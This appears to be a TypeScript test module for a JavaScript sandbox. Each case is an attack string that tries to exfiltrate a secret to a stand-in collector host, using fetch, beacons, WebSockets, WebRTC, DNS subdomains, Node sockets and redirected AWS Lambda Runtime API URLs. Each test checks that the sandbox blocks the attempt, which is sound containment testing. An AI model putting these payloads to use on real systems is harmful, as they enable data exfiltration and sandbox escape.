import { expect } from 'vitest';
import { refuses, resultOf } from '../expectations.ts';
import type { Attack } from '../attack.ts';

const next = 'same process';
const noSuchName = refuses('ReferenceError', 'TypeError');

/** Ways to send a byte to somebody. That none arrived is asked of the collector after each. */
export const networkAttacks: readonly Attack[] = [
  {
    name: 'fetches, with Node.js’s fetch and by every way to the browser’s own',
    attack: `
      const tries = [() => fetch(collector), () => fetch(new Request(collector, { method: 'POST', body: secret })),
        () => fetch(collector, { mode: 'no-cors', keepalive: true }), () => fetch(page), () => fetchLater(collector)];
      for (let at = globalThis; at; at = Object.getPrototypeOf(at)) {
        tries.push(() => Object.getOwnPropertyDescriptor(at, 'fetch').value.call(globalThis, collector));
        tries.push(() => at.constructor.prototype.fetch.call(globalThis, collector));
      }
      return attempts(...tries);`,
    next,
    contained: noSuchName,
  },
  {
    name: 'sends an XMLHttpRequest',
    attack: `return attempts(() => { const x = new XMLHttpRequest(); x.open('GET', collector, false); x.send(); });`,
    next,
    contained: noSuchName,
  },
  {
    name: 'opens a WebSocket',
    attack: `return attempts(() => new WebSocket(collector.replace('http', 'ws')), () => new WebSocketStream(collector));`,
    next,
    contained: noSuchName,
  },
  {
    name: 'opens an EventSource',
    attack: `return attempts(() => new EventSource(collector), () => new globalThis.EventSource(collector));`,
    next,
    contained: noSuchName,
  },
  {
    name: 'sends a beacon',
    attack: `return attempts(() => navigator.sendBeacon(collector, secret), () => Navigator.prototype.sendBeacon.call(navigator, collector));`,
    next,
    contained: noSuchName,
  },
  {
    name: 'opens a WebRTC connection',
    attack: `
      const host = new URL(collector).host;
      return attempts(
        () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] }).createDataChannel('x'),
        () => new webkitRTCPeerConnection({ iceServers: [{ urls: 'turn:' + host }] }), () => new RTCIceTransport(),
      );`,
    next,
    contained: noSuchName,
  },
  {
    name: 'opens a WebTransport session and raw sockets',
    attack: `return attempts(
      () => new WebTransport(collector.replace('http', 'https')).ready,
      () => new TCPSocket('127.0.0.1', 80), () => new UDPSocket({}), () => navigator.serial.requestPort(),
      () => navigator.usb.getDevices(), () => navigator.connection.type,
    );`,
    next,
    contained: noSuchName,
  },
  {
    name: 'loads a script with importScripts',
    attack: `return attempts(() => importScripts(collector), () => globalThis.importScripts(collector), () => Function('u', 'importScripts(u)')(collector));`,
    next,
    contained: noSuchName,
  },
  {
    name: 'imports a module from an http: and an https: address',
    attack: `return attempts(
      () => import(collector), () => import(collector.replace('http', 'https')),
      () => Function('u', 'return import(u)')(collector), () => Function('u', 'return import(u)')(page),
      () => (0, eval)('import(' + JSON.stringify(collector) + ')'),
    );`,
    next,
    contained: refuses('TypeError', 'Error'),
  },
  {
    name: 'imports a module from a data: and a blob: address, which imports another',
    attack: `
      const native = Function('u', 'return import(u)');
      const source = 'import ' + JSON.stringify(collector) + '; export const a = 1;';
      // The process waits for no import that is hidden from it: a timer keeps it alive until all are answered.
      const alive = setInterval(() => undefined, 1_000);
      return attempts(
        () => native('data:text/javascript,' + encodeURIComponent(source)),
        () => native(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))),
        () => native('data:text/javascript,' + encodeURIComponent('await fetch(' + JSON.stringify(collector) + ')')),
        () => native('data:text/javascript,new Worker("data:,1")'),
      ).finally(() => clearInterval(alive));`,
    next,
    contained: refuses('TypeError', 'ReferenceError'),
  },
  {
    name: 'loads style sheets, images and fonts',
    attack: `return attempts(
      () => new FontFace('x', 'url(' + collector + ')').load(), () => fonts.load('12px x'), () => { new Image().src = collector; },
      () => new CSSStyleSheet().replaceSync('@import "' + collector + '"'), () => new OffscreenCanvas(1, 1).getContext('2d'),
      () => createImageBitmap(new Blob([])), () => CSS.supports('a', 'b'), () => new ImageDecoder({}),
      () => document.createElement('link'), () => new Audio(collector),
    );`,
    next,
    contained: noSuchName,
  },
  {
    name: 'has a name looked up, with a prefetch and with node:dns',
    attack: `
      const name = secret + '.invalid';
      const { lookup } = require('dns');
      return attempts(
        () => { document.head.innerHTML = '<link rel=dns-prefetch href=//' + name + '>'; },
        () => new Promise((resolve, reject) => lookup(name, (error, found) => (error ? reject(error) : resolve(found)))),
        () => require('dns').promises.resolve(name), () => fetch('http://' + name),
      );`,
    next,
    contained: refuses('ReferenceError', 'TypeError', 'Error'),
  },
  {
    name: 'connects with http, https, http2, net, tls and dgram',
    attack: `
      const { host, hostname, port } = new URL(collector);
      const request = (module, options) => new Promise((resolve, reject) =>
        require(module).request(options, resolve).on('error', reject).end(secret));
      return attempts(
        () => request('http', collector), () => request('https', { host: hostname, port }),
        () => request('http', { host: '127.0.0.1', port, headers: { Host: process.env.AWS_LAMBDA_RUNTIME_API } }),
        () => request('http', { hostname, port, socketPath: '/x' }),
        ...['http2', 'net', 'tls'].map((module) => () => new Promise((resolve, reject) =>
          require(module).connect(Number(port), hostname, resolve).on('error', reject))),
        () => require('dgram').createSocket('udp4').send(secret, Number(port)),
      );`,
    next,
    contained: refuses('Error', 'TypeError'),
  },
  {
    name: 'has the Runtime API’s own address lead elsewhere',
    attack: `
      const api = process.env.AWS_LAMBDA_RUNTIME_API;
      const { host } = new URL(collector);
      const tries = ['http://' + api + '@' + host + '/', 'http://' + api + '//' + host + '/', 'http://' + api + '/../../' + host,
        'http://' + api + '.' + host + '/', 'http://' + api + '/?' + collector];
      process.env.AWS_LAMBDA_RUNTIME_API = host;
      const paths = [collector, '//' + host + '/', '/2018-06-01/runtime/invocation/next@' + host];
      const status = (options) => new Promise((resolve, reject) =>
        require('http').get(options, (response) => resolve(response.statusCode)).on('error', reject));
      const [hostname, port] = api.split(':');
      const results = await attempts(...tries.map((url) => async () => (await fetch(url)).status),
        ...paths.map((path) => () => status({ hostname, port, path })));
      process.env.AWS_LAMBDA_RUNTIME_API = api;
      return results;`,
    next,
    contained(outcome) {
      const results = resultOf(outcome) as string[];
      expect(results).toHaveLength(8);
      for (const result of results) expect(result).toMatch(/^(refused: |reached: 404$)/);
    },
  },
  {
    name: 'streams a WebAssembly program from elsewhere',
    attack: `return attempts(
      () => WebAssembly.compileStreaming(fetch(collector)), () => WebAssembly.instantiateStreaming(fetch(collector), {}),
      () => WebAssembly.compileStreaming(new Response(new Request(collector))),
    );`,
    next,
    contained: refuses('TypeError', 'CompileError'),
  },
];
